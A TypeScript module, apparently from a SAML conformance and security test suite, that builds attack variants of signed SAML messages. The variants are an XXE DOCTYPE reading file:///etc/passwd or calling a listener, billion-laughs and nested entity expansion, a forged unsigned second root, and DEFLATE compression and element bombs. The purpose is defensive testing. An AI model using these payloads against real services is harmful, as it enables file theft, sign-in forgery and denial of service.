import { constants, deflateRawSync } from 'node:zlib';
import { buildLogoutRequest } from '../logout/build-logout-request.ts';
import { NS } from '../namespaces.ts';
import { descendants } from '../safe-xml.ts';
import { assertionsOf, evilId, forge, parseGenuine, remove, replaceText, serialize } from './dom.ts';
import { type TamperContext, type TamperDef, TamperNotApplicable } from './types.ts';

export const DEFAULT_XXE_URL = 'file:///etc/passwd';

// Stands in for an entity reference while the DOM is serialized; a DOM cannot hold one unexpanded.
const ENTITY_MARK = 'ACCORD-ENTITY-REFERENCE-7f3a';

/**
 * The genuine Response with the subject NameIDs replaced by `&entity;` and a DOCTYPE declaring it,
 * optionally naming an external subset (`SYSTEM "url"`).
 */
function withEntity(
  xml: string,
  tamper: string,
  entity: string | ((nameId: string) => string),
  internalSubset: string | ((nameId: string) => string),
  externalSubset?: string,
): string {
  const g = parseGenuine(xml, tamper);
  const nameIds = descendants(g.response, NS.saml, 'NameID');
  if (nameIds.length === 0) throw new TamperNotApplicable(tamper, 'the genuine Response carries no NameID');
  const nameId = nameIds[0].textContent ?? '';
  const ref = typeof entity === 'string' ? entity : entity(nameId);
  for (const n of nameIds) replaceText(n, ENTITY_MARK);
  const body = serialize(g.doc).split(ENTITY_MARK).join(`&${ref};`);
  const subset = typeof internalSubset === 'string' ? internalSubset : internalSubset(nameId);
  const external = externalSubset ? ` SYSTEM "${externalSubset}"` : '';
  const doctype = `<!DOCTYPE ${g.response.tagName}${external} [${subset}]>`;
  const decl = /^<\?xml[^>]*\?>\s*/.exec(body);
  return decl ? `${decl[0]}${doctype}\n${body.slice(decl[0].length)}` : `${doctype}\n${body}`;
}

/** Where each fetch of doctype-xxe goes, below ctx.xxeUrl: a listener sees which construct a parser followed. */
export const XXE_PATHS = {
  externalSubset: 'external-dtd',
  parameterEntity: 'parameter-entity',
  generalEntity: 'general-entity',
} as const;

/**
 * DOCTYPE with every way a DTD-processing parser fetches something: an external subset, an external
 * parameter entity referenced in the internal subset, and an external general entity that the NameID
 * references. With ctx.xxeUrl (an http listener) each goes to `<xxeUrl>/<XXE_PATHS…>`; without it the
 * general entity names file:///etc/passwd and nothing else is declared.
 */
export const doctypeXxe: TamperDef = {
  name: 'doctype-xxe',
  title:
    'External DTD, parameter entity and general entity (XXE) in a DOCTYPE; the NameID references the entity',
  source:
    'CWE-611 (XML External Entity reference); OWASP XXE Prevention Cheat Sheet; SAML core and bindings carry no DTD',
  needs: 'any',
  apply(xml, ctx: TamperContext) {
    const base = ctx.xxeUrl?.replace(/\/+$/, '');
    if (base?.includes('"') || base?.includes("'"))
      throw new TamperNotApplicable('doctype-xxe', 'xxeUrl must not contain a quote');
    if (!base) return withEntity(xml, 'doctype-xxe', 'xxe', `<!ENTITY xxe SYSTEM "${DEFAULT_XXE_URL}">`);
    const at = (p: string) => `${base}/${p}`;
    return withEntity(
      xml,
      'doctype-xxe',
      'xxe',
      `<!ENTITY % remote SYSTEM "${at(XXE_PATHS.parameterEntity)}">%remote;<!ENTITY xxe SYSTEM "${at(XXE_PATHS.generalEntity)}">`,
      at(XXE_PATHS.externalSubset),
    );
  },
};

/**
 * Billion laughs' shape without its size: ten levels of internal entities, each referring to the one
 * below, that expand to exactly the signed NameID. A parser that expands entities reads the genuine,
 * validly signed message (so the SP signs the user in); one that refuses DTDs refuses it. Either way
 * nothing explodes: the expansion proves the parser would expand `billion-laughs` too.
 */
export const entityExpansion: TamperDef = {
  name: 'entity-expansion',
  title: 'Nested internal entities in a DOCTYPE expanding to the signed NameID',
  source: 'CWE-776 (Improper Restriction of Recursive Entity References in DTDs); CVE-2003-1564',
  needs: 'any',
  apply(xml) {
    const levels = 10;
    return withEntity(xml, 'entity-expansion', `n${levels - 1}`, (nameId) => {
      const size = Math.ceil(nameId.length / levels);
      let subset = '';
      for (let i = 0; i < levels; i++) {
        const piece = escapeEntityValue(nameId.slice(i * size, (i + 1) * size));
        subset += `<!ENTITY n${i} "${i > 0 ? `&n${i - 1};` : ''}${piece}">`;
      }
      return subset;
    });
  },
};

/**
 * An entity's literal value. Character references in it are replaced when the entity is declared and
 * the result is parsed again where it is referenced, so `&` and `<` need a reference to a reference.
 */
function escapeEntityValue(s: string): string {
  return s.replace(/[&<>"'%]/g, (c) =>
    c === '&' || c === '<' ? `&#38;#${c.charCodeAt(0)};` : `&#${c.charCodeAt(0)};`,
  );
}

/** Ten levels of entities, each ten references to the one below: 10^9 copies of "lol" in the NameID once expanded. */
export const billionLaughs: TamperDef = {
  name: 'billion-laughs',
  title: 'Nested entity expansion (billion laughs) in the NameID',
  source: 'CWE-776 (Improper Restriction of Recursive Entity References in DTDs); CVE-2003-1564',
  needs: 'any',
  apply(xml) {
    let subset = '<!ENTITY lol0 "lol">';
    for (let i = 1; i <= 9; i++) subset += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
    return withEntity(xml, 'billion-laughs', 'lol9', subset);
  },
};

/**
 * The genuine Response followed by a second root element: a forged copy (fresh IDs, attacker NameID,
 * no signatures). Not well-formed; a lenient parser that keeps the last root reads the forgery.
 */
export const twoRoots: TamperDef = {
  name: 'two-roots',
  title: 'Second root element (a forged unsigned Response) after the genuine one',
  source: 'W3C XML 1.0, 2.1 (a well-formed document has exactly one root element)',
  needs: 'any',
  apply(xml, ctx) {
    const genuine = parseGenuine(xml, 'two-roots');
    const evil = parseGenuine(xml, 'two-roots');
    for (const sig of descendants(evil.response, NS.ds, 'Signature')) remove(sig);
    evil.response.setAttribute('ID', evilId(evil.response.getAttribute('ID') ?? ''));
    for (const a of assertionsOf(evil.response)) forge(a, ctx.attackerNameId);
    return `${serialize(genuine.doc)}${serialize(evil.doc).replace(/^<\?xml[^>]*\?>\s*/, '')}`;
  },
};

const BOMB_HEAD = `<samlp:AuthnRequest xmlns:samlp="${NS.samlp}" ID="_compression-bomb" IssueInstant="2000-01-01T00:00:00Z" Version="2.0"><!--`;
const BOMB_TAIL = '--></samlp:AuthnRequest>';
const ELEMENT_BOMB_TAIL = '</samlp:LogoutRequest>';
/** An ordinary LogoutRequest, opened up before its end tag for the bomb's elements. */
const ELEMENT_BOMB_HEAD = (() => {
  const { xml } = buildLogoutRequest({
    id: '_element-bomb',
    issueInstant: new Date('2000-01-01T00:00:00Z'),
    nameId: { value: 'nobody@accord.test' },
  });
  return xml.slice(0, xml.lastIndexOf(ELEMENT_BOMB_TAIL));
})();
const BOMB_CHUNK = 1 << 20;

/**
 * Base64 of raw DEFLATE that inflates to exactly `sizeBytes`: head, filler (`unit` repeated, then
 * spaces), tail. Built from independently compressed, sync-flushed segments (one 1 MiB filler
 * segment repeated), so a gigabyte costs a few hundred kilobytes and no gigabyte of memory.
 */
function deflateBomb(fn: string, sizeBytes: number, head: string, unit: string, tail: string): string {
  const fixed = head.length + tail.length;
  if (!Number.isSafeInteger(sizeBytes) || sizeBytes < fixed) {
    throw new RangeError(`${fn} needs at least ${fixed} bytes, got ${sizeBytes}`);
  }
  const segment = (data: Buffer) => deflateRawSync(data, { finishFlush: constants.Z_SYNC_FLUSH, level: 9 });
  const fill = (n: number) => {
    const units = Math.floor(n / unit.length);
    return Buffer.from(unit.repeat(units) + ' '.repeat(n - units * unit.length));
  };
  let filler = sizeBytes - fixed;
  const parts: Buffer[] = [segment(Buffer.from(head))];
  if (filler >= BOMB_CHUNK) {
    const full = segment(fill(BOMB_CHUNK));
    for (; filler >= BOMB_CHUNK; filler -= BOMB_CHUNK) parts.push(full);
  }
  if (filler > 0) parts.push(segment(fill(filler)));
  parts.push(deflateRawSync(Buffer.from(tail)));
  return Buffer.concat(parts).toString('base64');
}

/**
 * HTTP-Redirect parameter value (base64 of raw DEFLATE) that inflates to exactly `sizeBytes` of XML:
 * an AuthnRequest holding one long comment.
 */
export function compressionBomb(sizeBytes: number): string {
  return deflateBomb('compressionBomb', sizeBytes, BOMB_HEAD, 'A', BOMB_TAIL);
}

/**
 * As compressionBomb, but the LogoutRequest holds `<a/>` elements, a quarter of a million per
 * megabyte: cheap to refuse by size, expensive for a parser that builds them all. A Redirect URL of
 * a few kilobytes carries about four megabytes of them.
 */
export function elementBomb(sizeBytes: number): string {
  return deflateBomb('elementBomb', sizeBytes, ELEMENT_BOMB_HEAD, '<a/>', ELEMENT_BOMB_TAIL);
}

/**
 * The message padded to exactly `sizeBytes` (UTF-8) by comments after its root element, 4 KiB each
 * (parsers cope with many comments better than with one huge one; a few spaces make up the rest).
 * Comments are outside every signature's canonical form, so a signed message stays validly signed:
 * only its size is hostile.
 */
export function oversized(xml: string, sizeBytes: number): string {
  let pad = sizeBytes - Buffer.byteLength(xml, 'utf8');
  if (!Number.isSafeInteger(sizeBytes) || pad < 0) {
    throw new RangeError(
      `oversized: the message is already ${Buffer.byteLength(xml, 'utf8')} bytes, more than ${sizeBytes} allow`,
    );
  }
  const comment = (n: number) => `<!--${'x'.repeat(n)}-->`;
  const full = comment(4096);
  const parts: string[] = [];
  for (; pad >= full.length; pad -= full.length) parts.push(full);
  if (pad >= 7) parts.push(comment(pad - 7));
  else parts.push(' '.repeat(pad));
  return xml + parts.join('');
}
